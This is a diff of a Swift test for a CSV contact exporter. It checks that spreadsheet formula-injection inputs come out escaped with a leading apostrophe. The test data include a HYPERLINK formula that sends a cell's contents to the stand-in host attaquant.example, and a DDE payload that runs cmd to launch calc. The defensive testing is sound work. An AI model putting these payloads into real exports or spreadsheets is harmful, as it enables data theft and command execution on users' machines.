@@ -38,7 +38,7 @@ import TrocServer
             let first = try #require(rows.first { $0.contains("piege1@menuiserie-leroy.fr") })
             let second = try #require(rows.first { $0.contains("piege2@menuiserie-leroy.fr") })
             let column = Dictionary(uniqueKeysWithValues: CanonicalContactWriter.header.split(separator: ";").enumerated().map { (String($1), $0) })
-            func cell(_ row: [String], _ name: String) -> String { row[column[name]!] }
+            func cell(_ row: [String], _ name: String) -> String? { column[name].flatMap { $0 < row.count ? row[$0] : nil } }
             #expect(cell(first, "nom") == #"'=HYPERLINK("http://attaquant.example/?d="&A2,"Voir")"#)
             #expect(cell(first, "prenom") == "'@SUM(1+1)")
             #expect(cell(first, "raison_sociale") == "'+cmd|' /C calc'!A0")
